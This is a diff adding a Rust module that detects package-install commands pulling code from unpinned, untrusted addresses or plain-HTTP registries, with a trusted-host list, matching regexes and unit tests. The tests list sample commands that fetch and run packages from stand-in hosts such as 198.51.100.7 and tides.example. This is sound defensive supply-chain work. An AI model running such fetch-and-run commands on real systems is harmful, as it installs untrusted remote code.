@@ -1,0 +1,113 @@
+//! Packages that are installed from an address instead of a registry, where nobody keeps what was published.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::{names, value::Word};
+
+/// Where packages and projects are kept by somebody known for it.
+const KEEPERS: [&str; 17] = [
+    "github.com",
+    "codeload.github.com",
+    "raw.githubusercontent.com",
+    "gitlab.com",
+    "bitbucket.org",
+    "codeberg.org",
+    "git.sr.ht",
+    "files.pythonhosted.org",
+    "pypi.org",
+    "test.pypi.org",
+    "registry.npmjs.org",
+    "registry.yarnpkg.com",
+    "jsr.io",
+    "download.pytorch.org",
+    "pypi.nvidia.com",
+    "huggingface.co",
+    "rubygems.org",
+];
+
+/// A package at an address.
+static AT_ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i)^(?:[\w\[\].-]+\s*@\s*)?(?:git\+)?(?:https?|git|ftp)://(?:[^/@\s]*@)?([\w.$-]+)").ok()
+});
+/// A registry that anybody between can answer for.
+static OPEN_REGISTRY: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"(?i)^(?:http://|https?://\d{1,3}(?:\.\d{1,3}){3})").ok());
+/// What names one content: a digest, or a commit.
+static PINNED: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)#sha(?:256|512)=|@[0-9a-f]{40}\b").ok());
+
+/// Whether a command installs or runs a package from where anybody could have put it.
+pub(super) fn is_from_anywhere(program: &str, words: &[Word]) -> bool {
+    let verb = words.iter().map(|word| word.text.as_str()).find(|text| !text.starts_with('-')).unwrap_or_default();
+    let is_install = match program {
+        "npm" | "pnpm" | "yarn" | "bun" | "uv" => {
+            ["install", "i", "add", "global", "dlx", "exec", "x", "pip", "tool", "run"].contains(&verb)
+        }
+        "pip" | "pip3" | "pipx" | "gem" | "deno" => ["install", "run", "inject"].contains(&verb),
+        "npx" | "bunx" | "uvx" | "easy_install" => true,
+        _ if program.starts_with("python") => words.iter().take(3).any(|word| word.text == "pip"),
+        _ => false,
+    };
+    if !is_install || words.iter().any(|word| word.text == "--require-hashes") {
+        return false;
+    }
+    let mut is_registry = false;
+    words.iter().any(|word| {
+        let (option, value) = word.text.split_once('=').unwrap_or((&word.text, &word.text));
+        let names_registry = matches!(option, "-i" | "--index-url" | "--extra-index-url" | "--registry" | "--index");
+        let is_value = std::mem::replace(&mut is_registry, names_registry && option == word.text);
+        if is_value || names_registry {
+            return is_open(value);
+        }
+        !word.text.starts_with('-') && is_elsewhere(&word.text)
+    })
+}
+
+fn is_open(registry: &str) -> bool {
+    names::fits(&OPEN_REGISTRY, registry) && !names::fits(&names::LOOPBACK, registry)
+}
+
+fn is_elsewhere(word: &str) -> bool {
+    let found = AT_ADDRESS.as_ref().and_then(|regex| regex.captures(word));
+    let Some(host) = found.and_then(|found| found.get(1)).map(|host| host.as_str().to_ascii_lowercase()) else {
+        return false;
+    };
+    let is_kept =
+        KEEPERS.contains(&host.as_str()) || host == "localhost" || host.starts_with("127.") || host.starts_with('$');
+    !is_kept && !names::fits(&PINNED, word)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_package_from_an_address_is_told_from_one_of_a_registry() {
+        let is_told = |line: &str| {
+            let mut words = line.split(' ').map(|text| Word { text: text.to_owned(), ..Word::default() });
+            let program = words.next().unwrap().text;
+            is_from_anywhere(&program, &words.collect::<Vec<_>>())
+        };
+        for line in [
+            "npm install -g http://198.51.100.7/tide.tgz",
+            "npx -y https://tides.example/post.tgz",
+            "pip install git+https://git.tides.example/x",
+            "python3 -m pip install --index-url http://tides.example/simple tide",
+            "pip install --extra-index-url=http://198.51.100.7/simple tide",
+            "deno run https://tides.example/x.ts",
+        ] {
+            assert!(is_told(line), "{line}");
+        }
+        for line in [
+            "npm install -g docx",
+            "pip install git+https://github.com/tides/x",
+            "pip install torch --index-url https://download.pytorch.org/whl/cpu",
+            "pip install https://tides.example/x.whl#sha256=00",
+            "npm install --registry http://localhost:4873 tide",
+            "npm config set homepage https://tides.example",
+        ] {
+            assert!(!is_told(line), "{line}");
+        }
+    }
+}
